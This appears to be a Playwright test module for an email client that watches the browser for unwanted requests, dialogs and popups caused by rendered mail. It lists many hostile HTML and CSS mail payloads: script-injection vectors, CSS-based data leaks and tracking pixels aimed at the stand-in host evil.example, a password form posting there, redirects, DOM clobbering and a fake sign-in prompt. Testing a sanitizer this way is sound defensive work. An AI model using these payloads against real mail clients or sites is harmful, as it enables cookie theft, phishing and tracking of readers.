/** Mail that tries to run, load, lead away or cover something. */
import type { BrowserContext } from "@playwright/test";
import { hostileHtml } from "../lib/message/fixtures/hostile-html.ts";
import { place } from "./places.ts";

/** Everything in the browser that a mail has set in motion and must not have. */
export function watch(context: BrowserContext): string[] {
  const seen: string[] = [];
  context.on("request", (request) => {
    const { protocol, origin } = new URL(request.url());
    if (protocol !== "data:" && origin !== place("latchkey")) seen.push(`request ${request.url()}`);
  });
  context.on("dialog", (dialog) => {
    seen.push(`dialog ${dialog.message()}`);
    return dialog.dismiss();
  });
  context.on("page", (opened) => opened.on("popup", (popup) => seen.push(`popup ${popup.url()}`)));
  return seen;
}

const images = "https://evil.example/pixel.png";
export const attacks: readonly string[] = [
  ...hostileHtml,
  `<img src="${images}"><img srcset="${images} 2x"><picture><source srcset="${images}"></picture>`,
  `<p style="background:url(${images})">x</p><style>p{background:url(${images})}@import "${images}";</style>`,
  `<link rel="stylesheet" href="${images}"><link rel="prefetch" href="${images}"><link rel="preconnect" href="https://evil.example">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><a href="x">x</a>`,
  `<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<form action="https://evil.example/" method="post"><input name="password" autofocus onfocus="alert(1)"><button>Go</button></form>`,
  `<svg><script>alert(1)</script><image href="${images}"/><use href="${images}#x"/><animate onbegin="alert(1)"/></svg>`,
  `<video src="${images}" poster="${images}" autoplay onloadstart="alert(1)"></video><audio src="${images}" autoplay></audio>`,
  `<object data="${images}"></object><embed src="${images}"><applet code="x"></applet><portal src="https://evil.example/"></portal>`,
  `<body onload="alert(1)" background="${images}"><marquee onstart="alert(1)">x</marquee></body>`,
  `<script src="https://evil.example/x.js"></script><script>alert(document.cookie)</script>`,
  `<img src="/api/auth/signout"><img src="x" onerror="top.location='https://evil.example/'">`,
  ...[
    "p{background:url('https://evil.example/1.png')}",
    "p{background:u\\72l(https://evil.example/2.png)}",
    "p{b\\61 ckground-image:URL(https://evil.example/3.png)}",
    "p{background:ur/**/l(https://evil.example/4.png);background:image-set('https://evil.example/5.png' 1x)}",
    "@import'https://evil.example/6.css';@\\69mport url(https://evil.example/7.css);@import url(//evil.example/8.css) screen;",
    "@font-face{font-family:x;src:url(https://evil.example/9.woff)}p{font-family:x}",
    "a[href^='h']{background:url(https://evil.example/h)}",
    "p{list-style:url(https://evil.example/10);cursor:url(https://evil.example/11),auto;content:url(https://evil.example/12)}",
    "p{width:expression(alert(1));-moz-binding:url(https://evil.example/13);behavior:url(https://evil.example/14)}",
    "body,p,div{position:fixed!important;inset:0;z-index:2147483647;background:red}",
    "html:has(p){display:none}summary,details{display:none}*{all:unset;animation:x 1s infinite}@keyframes x{to{background:url(https://evil.example/15)}}",
    ":root{--x:url(https://evil.example/16)}p{background:var(--x)}p::after{content:'Sign in again at evil.example'}",
    "p{filter:url(https://evil.example/17);mask:url(https://evil.example/18);clip-path:url(https://evil.example/19);shape-outside:url(https://evil.example/20)}",
    "@namespace 'x';@media (max-width:9999px){@media screen{@import 'https://evil.example/21'}p{background:url(https://evil.example/22)}}",
    "p{color:red</style><img src=x onerror=alert(1)><script>alert(1)</script>",
    "p::after{content:'</style><img src=x onerror=alert(1)>'}",
    "<!--</style><img src=x onerror=alert(1)>--><style>p{background:url(https://evil.example/23)}",
    "}}}{{{p{background:url(https://evil.example/24)",
  ].map((css) => `<style>${css}</style><p>x</p><a href="https://example.org/">y</a><ul><li>z</li></ul>`),
  `<svg><style><p id="</style><img src=x onerror=alert(1)>"></svg><math><mi><style></math><img src=x onerror=alert(1)>`,
  `<noscript><style></noscript><img src=x onerror=alert(1)></style>`,
  `<img id="body" name="contentDocument"><form id="documentElement"><input name="style"></form><a id="defaultView" name="scrollHeight" class="mail quoted">x</a>`,
  `<div class="mail-body quoted" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99">x</div>`,
  `<iframe srcdoc="&lt;meta http-equiv=refresh content='0;url=https://evil.example/'&gt;"></iframe><frameset><frame src="https://evil.example/"></frameset>`,
];
